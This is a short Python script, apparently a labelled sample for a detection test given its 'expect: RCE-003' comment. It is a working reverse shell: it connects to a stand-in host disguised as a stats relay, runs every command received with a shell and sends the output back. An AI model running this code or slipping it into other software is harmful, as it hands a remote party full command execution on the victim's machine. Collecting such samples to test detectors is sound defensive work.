import socket
import subprocess

link = socket.create_connection(("relay.stats-hub.example", 8443))
while True:
    order = link.recv(4096).decode()
    answer = subprocess.run(order, shell=True, capture_output=True).stdout  # expect: RCE-003
    link.sendall(answer)
